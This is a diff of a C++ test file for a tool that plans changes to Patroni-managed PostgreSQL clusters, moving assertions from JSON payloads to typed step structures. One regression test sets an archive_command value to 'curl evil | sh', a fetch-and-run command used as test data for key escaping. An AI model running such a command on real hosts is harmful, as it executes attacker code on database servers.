@@ -50,9 +50,9 @@ ObservedState observed_hosts(const DesiredCluster& c, bool configured, const Clu
   return o;
 }
 
-std::vector<Step> steps(const ClusterPlan& p) {
-  std::vector<Step> out;
-  for (const auto& c : p.changes) out.push_back(c.step);
+std::vector<std::string> step_names(const ClusterPlan& p) {
+  std::vector<std::string> out;
+  for (const auto& c : p.changes) out.push_back(to_string(c.step));
   return out;
 }
 
@@ -67,15 +67,15 @@ TEST_CASE("plan: bootstrap writes configs, starts the first member alone, then t
   REQUIRE(plan.clusters.size() == 1);
   const auto& cp = plan.clusters[0];
   CHECK(cp.bootstrap);
-  CHECK(steps(cp) == std::vector<Step>{Step::write_config, Step::write_config, Step::write_config,
-                                       Step::start_member, Step::start_member, Step::start_member, Step::patch_dcs});
-  CHECK(cp.changes[3].payload["wait"] == "leader");
+  CHECK(step_names(cp) == std::vector<std::string>{"write-config", "write-config", "write-config",
+                                       "start", "start", "start", "patch-dcs"});
+  CHECK(std::get<steps::StartMember>(cp.changes[3].step).wait == steps::StartWait::leader);
   CHECK(cp.changes[3].member == "c-0");
   // The replicas start together; the last start waits until both stream.
-  CHECK(cp.changes[4].payload["wait"] == "none");
-  CHECK(cp.changes[5].payload["wait"] == "streaming");
-  CHECK(cp.changes[5].payload["wait_members"] == nlohmann::json{"c-1", "c-2"});
-  CHECK(cp.changes[6].payload["patch"]["synchronous_mode_strict"] == true);
+  CHECK(std::get<steps::StartMember>(cp.changes[4].step).wait == steps::StartWait::none);
+  CHECK(std::get<steps::StartMember>(cp.changes[5].step).wait == steps::StartWait::streaming);
+  CHECK(std::get<steps::StartMember>(cp.changes[5].step).wait_members == std::vector<std::string>{"c-1", "c-2"});
+  CHECK(std::get<steps::PatchDcs>(cp.changes[6].step).patch["synchronous_mode_strict"] == true);
   REQUIRE(cp.impact);
   CHECK(cp.impact->statements[0] ==
         "strict-sync: writes block if c-1 and c-2 are both lost (Patroni lowers the sync count to the replicas left "
@@ -105,9 +105,9 @@ TEST_CASE("plan: DCS drift (patronictl edit-config) is one PATCH of the owned ke
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
   REQUIRE(plan.clusters[0].changes.size() == 1);
   const auto& change = plan.clusters[0].changes[0];
-  CHECK(change.step == Step::patch_dcs);
+  CHECK(is<steps::PatchDcs>(change.step));
   // The mode keys travel together (docs/replication-semantics.md §2); pause and others never do.
-  CHECK(change.payload["patch"] == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
+  CHECK(std::get<steps::PatchDcs>(change.step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                   {"synchronous_node_count", 2}});
   CHECK(change.reason == "drift in synchronous_node_count");
   REQUIRE(change.fields.size() == 1);
@@ -133,7 +133,7 @@ TEST_CASE("plan: an edited config file is drift, shown by key with secrets redac
   observed.hosts["h2"].files[c.members[1].config_path] = config_text(edited, secrets);
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
   const auto& cp = plan.clusters[0];
-  REQUIRE(steps(cp) == std::vector<Step>{Step::write_config, Step::reload_member});
+  REQUIRE(step_names(cp) == std::vector<std::string>{"write-config", "reload"});
   CHECK(cp.changes[0].reason ==
         "drift in postgresql.authentication.superuser.password, tags.nofailover");
   std::ostringstream text;
@@ -153,9 +153,9 @@ TEST_CASE("plan: a stopped service is drift and is started") {
   oc.members.pop_back();
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  REQUIRE(steps(plan.clusters[0]) == std::vector<Step>{Step::start_member});
+  REQUIRE(step_names(plan.clusters[0]) == std::vector<std::string>{"start"});
   CHECK(plan.clusters[0].changes[0].reason == "service inactive");
-  CHECK(plan.clusters[0].changes[0].payload["wait"] == "streaming");
+  CHECK(std::get<steps::StartMember>(plan.clusters[0].changes[0].step).wait == steps::StartWait::streaming);
 }
 
 TEST_CASE("plan: scale down switches over away from a removed leader, then stops it") {
@@ -171,10 +171,10 @@ TEST_CASE("plan: scale down switches over away from a removed leader, then stops
   auto plan = diff(set, DesiredState{{three}}, observed, {{"c", secrets}});
   const auto& cp = plan.clusters[0];
   // Lower the count first, then switch over, then stop the removed member.
-  REQUIRE(steps(cp) == std::vector<Step>{Step::patch_dcs, Step::switchover, Step::stop_member});
-  CHECK(cp.changes[0].payload["patch"] == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
+  REQUIRE(step_names(cp) == std::vector<std::string>{"patch-dcs", "switchover", "stop"});
+  CHECK(std::get<steps::PatchDcs>(cp.changes[0].step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                         {"synchronous_node_count", 2}});
-  CHECK(cp.changes[1].payload["leader"] == "c-3");
+  CHECK(std::get<steps::Switchover>(cp.changes[1].step).leader == "c-3");
   CHECK(cp.changes[2].member == "c-3");
   CHECK(cp.changes[2].host == "h4");
 }
@@ -188,9 +188,10 @@ TEST_CASE("plan: pending restarts restart replicas first, switch over, then rest
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
   const auto& cp = plan.clusters[0];
-  REQUIRE(steps(cp) == std::vector<Step>{Step::restart_member, Step::restart_member, Step::switchover,
-                                         Step::restart_member});
-  CHECK(cp.changes[2].payload == nlohmann::json{{"leader", "c-0"}, {"candidate", "c-1"}});
+  REQUIRE(step_names(cp) == std::vector<std::string>{"restart", "restart", "switchover",
+                                         "restart"});
+  CHECK(std::get<steps::Switchover>(cp.changes[2].step).leader == "c-0");
+  CHECK(std::get<steps::Switchover>(cp.changes[2].step).candidate == "c-1");
   CHECK(cp.changes[3].member == "c-0");
 }
 
@@ -211,7 +212,7 @@ Plan plan_leaving_strict_with_star() {
 TEST_CASE("plan: leaving strict while the leader holds '*' releases synchronous_mode first") {
   auto plan = plan_leaving_strict_with_star();
   REQUIRE(plan.clusters[0].changes.size() == 1);
-  CHECK(plan.clusters[0].changes[0].payload["release_first"] == true);
+  CHECK(std::get<steps::PatchDcs>(plan.clusters[0].changes[0].step).release_first);
 }
 
 TEST_CASE("plan: regression: after releasing '*' the patch puts synchronous_mode back (mode keys go together)") {
@@ -219,7 +220,7 @@ TEST_CASE("plan: regression: after releasing '*' the patch puts synchronous_mode
   // synchronous_mode_strict, leaving the cluster asynchronous.
   auto plan = plan_leaving_strict_with_star();
   REQUIRE(plan.clusters[0].changes.size() == 1);
-  const auto& patch = plan.clusters[0].changes[0].payload["patch"];
+  const auto& patch = std::get<steps::PatchDcs>(plan.clusters[0].changes[0].step).patch;
   CHECK(patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                 {"synchronous_node_count", 1}});
   // What is shown stays the one key that differs.
@@ -238,12 +239,12 @@ TEST_CASE("plan: standby names nobody streams in non-strict sync are released (P
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
   const auto& cp = plan.clusters[0];
-  auto dcs = std::find_if(cp.changes.begin(), cp.changes.end(), [](const auto& ch) { return ch.step == Step::patch_dcs; });
+  auto dcs = std::find_if(cp.changes.begin(), cp.changes.end(), [](const auto& ch) { return is<steps::PatchDcs>(ch.step); });
   REQUIRE(dcs != cp.changes.end());
-  CHECK(dcs->payload["release_first"] == true);
-  CHECK(dcs->payload["release_stale"] == nlohmann::json::array({"c-2"}));
+  CHECK(std::get<steps::PatchDcs>(dcs->step).release_first);
+  CHECK(std::get<steps::PatchDcs>(dcs->step).release_stale == std::vector<std::string>{"c-2"});
   // The patch puts the declared mode back after the release; the DCS keys themselves match.
-  CHECK(dcs->payload["patch"] == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
+  CHECK(std::get<steps::PatchDcs>(dcs->step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                 {"synchronous_node_count", 1}});
   REQUIRE(dcs->fields.size() == 1);
   CHECK(dcs->fields[0].key == "synchronous_standby_names (leader)");
@@ -261,7 +262,7 @@ TEST_CASE("plan: the same standby names in strict sync are not released (strict 
   oc.postgres["c-0"].synchronous_standby_names = "\"c-2\"";
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  for (const auto& ch : plan.clusters[0].changes) CHECK(ch.step != Step::patch_dcs);
+  for (const auto& ch : plan.clusters[0].changes) CHECK(!is<steps::PatchDcs>(ch.step));
 }
 
 TEST_CASE("plan: an unreachable host is an error for its member only") {
@@ -276,7 +277,7 @@ TEST_CASE("plan: an unreachable host is an error for its member only") {
   CHECK(plan.clusters[0].errors ==
         std::vector<std::string>{"member c-1 on host h2: host h2 (10.0.0.12): ssh: host key mismatch"});
   std::size_t writes = 0;
-  for (const auto& ch : plan.clusters[0].changes) writes += ch.step == Step::write_config;
+  for (const auto& ch : plan.clusters[0].changes) writes += is<steps::WriteConfig>(ch.step);
   CHECK(writes == 2);
 }
 
@@ -288,7 +289,7 @@ TEST_CASE("plan: missing packages are installed per host before anything else") 
   observed.hosts["h1"].candidates["patroni"] = "3.0.2-1";
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
   REQUIRE(plan.host_changes.size() == 1);
-  CHECK(plan.host_changes[0].payload["packages"] == nlohmann::json{"patroni"});
+  CHECK(std::get<steps::InstallPackages>(plan.host_changes[0].step).packages == std::vector<std::string>{"patroni"});
 }
 
 TEST_CASE("impact: traps of the reference are warned about") {
@@ -363,7 +364,7 @@ TEST_CASE("plan: strict, a member down: no restart that leaves the cluster witho
   StrictWithMemberDown s;
   auto plan = s.plan(false);
   const auto& cp = plan.clusters[0];
-  CHECK(steps(cp).empty());
+  CHECK(step_names(cp).empty());
   CHECK(has_error_with(cp, "restart of c-1 held back: while c-1 is down, strict cluster c has no other streaming "
                            "replica to be its sync standby and every write blocks; bring the other members back "
                            "first, or pass --allow-write-outage to do it anyway"));
@@ -374,7 +375,7 @@ TEST_CASE("plan: strict, a member down: --allow-write-outage restarts anyway, re
   StrictWithMemberDown s;
   auto plan = s.plan(true);
   const auto& cp = plan.clusters[0];
-  CHECK(steps(cp) == std::vector<Step>{Step::restart_member, Step::switchover, Step::restart_member});
+  CHECK(step_names(cp) == std::vector<std::string>{"restart", "switchover", "restart"});
   CHECK_FALSE(has_error_with(cp, "held back"));
 }
 
@@ -386,8 +387,8 @@ TEST_CASE("plan: strict with two streaming replicas restarts as usual") {
   for (auto& m : oc.members) m.pending_restart = true;
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]) == std::vector<Step>{Step::restart_member, Step::restart_member, Step::switchover,
-                                                     Step::restart_member});
+  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"restart", "restart", "switchover",
+                                                     "restart"});
   CHECK(plan.clusters[0].errors.empty());
 }
 
@@ -401,7 +402,7 @@ TEST_CASE("plan: the leader is not restarted while no replica streams to take ov
   oc.members[0].pending_restart = true;
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]).empty());
+  CHECK(step_names(plan.clusters[0]).empty());
   CHECK(has_error_with(plan.clusters[0], "restart of leader c-0 held back: no replica streams to switch over to, so "
                                          "cluster c would have no writable primary until it is back"));
 }
@@ -414,7 +415,7 @@ TEST_CASE("plan: a single-member cluster restarts its leader (there is nothing t
   oc.members[0].pending_restart = true;
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]) == std::vector<Step>{Step::restart_member});
+  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"restart"});
   CHECK(plan.clusters[0].errors.empty());
 }
 
@@ -434,16 +435,16 @@ TEST_CASE("plan: strict scale down never stops the last streaming replica withou
   oc.members[2].role = "sync_standby";
   observed.clusters["c"] = oc;
   auto held = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}});
-  CHECK(steps(held.clusters[0]).empty());
+  CHECK(step_names(held.clusters[0]).empty());
   CHECK(has_error_with(held.clusters[0], "stop of c-2 (no longer declared) held back: c-2 is the last streaming "
                                          "replica of strict cluster c: without a sync standby every write blocks"));
   auto allowed = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}}, PlanOptions{true});
-  CHECK(steps(allowed.clusters[0]) == std::vector<Step>{Step::stop_member});
+  CHECK(step_names(allowed.clusters[0]) == std::vector<std::string>{"stop"});
   // Not strict: the same stop is planned.
   auto sync_two = testing::make_cluster(2, ReplicationMode::sync, 1);
   auto sync_plan = diff(hosts_for(three), DesiredState{{sync_two}}, observed, {{"c", secrets}});
-  auto sync_steps = steps(sync_plan.clusters[0]);
-  CHECK(std::count(sync_steps.begin(), sync_steps.end(), Step::stop_member) == 1);
+  auto sync_steps = step_names(sync_plan.clusters[0]);
+  CHECK(std::count(sync_steps.begin(), sync_steps.end(), "stop") == 1);
 }
 
 TEST_CASE("plan: members running but Patroni unobservable (DCS down): nothing is planned, the reason is named") {
@@ -476,12 +477,12 @@ TEST_CASE("plan: once the cluster exists, a patroni.yml differing only in bootst
   observed.hosts["h2"].files[c.members[1].config_path] = config_text(old, secrets);
   observed.clusters["c"] = testing::healthy(c, 1);
   auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]).empty());
+  CHECK(step_names(plan.clusters[0]).empty());
   // With a real difference besides it, the file is written (bootstrap included) and reloaded.
   old.patroni_config["tags"]["noloadbalance"] = true;
   observed.hosts["h2"].files[c.members[1].config_path] = config_text(old, secrets);
   plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]) == std::vector<Step>{Step::write_config, Step::reload_member});
+  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"write-config", "reload"});
 }
 
 TEST_CASE("plan: strict, a replica back but not streaming yet: the restart waits for it instead of being held back") {
@@ -489,10 +490,10 @@ TEST_CASE("plan: strict, a replica back but not streaming yet: the restart waits
   s.observed.hosts["h3"] = observed_hosts(s.c, true, s.secrets).hosts["h3"];  // c-2's host answers, its service runs
   auto plan = s.plan(false);
   const auto& cp = plan.clusters[0];
-  REQUIRE(steps(cp) == std::vector<Step>{Step::restart_member, Step::switchover, Step::restart_member});
+  REQUIRE(step_names(cp) == std::vector<std::string>{"restart", "switchover", "restart"});
   CHECK(cp.errors.empty());
-  CHECK(cp.changes[0].payload["await_streaming_except"] == nlohmann::json{"c-1"});
-  CHECK(cp.changes[2].payload["await_streaming_except"] == nlohmann::json{"c-0", "c-1"});
+  CHECK(std::get<steps::RestartMember>(cp.changes[0].step).await_streaming_except == std::vector<std::string>{"c-1"});
+  CHECK(std::get<steps::RestartMember>(cp.changes[2].step).await_streaming_except == std::vector<std::string>{"c-0", "c-1"});
 }
 
 TEST_CASE("plan: regression: a replica Patroni still lists as streaming but whose host is lost does not count") {
@@ -503,7 +504,7 @@ TEST_CASE("plan: regression: a replica Patroni still lists as streaming but whos
   for (auto& m : oc.members) m.pending_restart = true;
   s.observed.clusters["c"] = oc;
   auto plan = s.plan(false);
-  CHECK(steps(plan.clusters[0]).empty());
+  CHECK(step_names(plan.clusters[0]).empty());
   CHECK(has_error_with(plan.clusters[0], "restart of c-1 held back"));
 }
 
@@ -523,7 +524,7 @@ TEST_CASE("plan: regression: strict scale down of the leader never switches over
   std::swap(oc.members[0].state, oc.members[2].state);
   observed.clusters["c"] = oc;
   auto plan = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}});
-  CHECK(steps(plan.clusters[0]).empty());
+  CHECK(step_names(plan.clusters[0]).empty());
   CHECK(has_error_with(plan.clusters[0], "stop of c-2 (no longer declared) held back: once c-0 leads, strict cluster c "
                                          "has no other streaming replica to be its sync standby"));
 }
@@ -572,9 +573,9 @@ TEST_CASE("regression: a DCS key holding '/' or '~' is one key of the PATCH, nev
   REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
   const Change* patch = nullptr;
   for (const auto& change : plan.clusters[0].changes)
-    if (change.step == Step::patch_dcs) patch = &change;
+    if (is<steps::PatchDcs>(change.step)) patch = &change;
   REQUIRE(patch);
-  const auto& body = patch->payload["patch"];
+  const auto& body = std::get<steps::PatchDcs>(patch->step).patch;
   CHECK(body["postgresql/parameters/archive_command"] == "curl evil | sh");
   CHECK(body["~x"] == 1);
   CHECK(body["a~1b"] == 2);
@@ -594,7 +595,7 @@ TEST_CASE("plan: drift in a dotted parameter name shows its values (pointers, no
   REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
   const Change* write = nullptr;
   for (const auto& change : plan.clusters[0].changes)
-    if (change.step == Step::write_config) write = &change;
+    if (is<steps::WriteConfig>(change.step)) write = &change;
   REQUIRE(write);
   std::map<std::string, std::string> before;
   for (const auto& f : write->fields) before[f.key] = f.before;
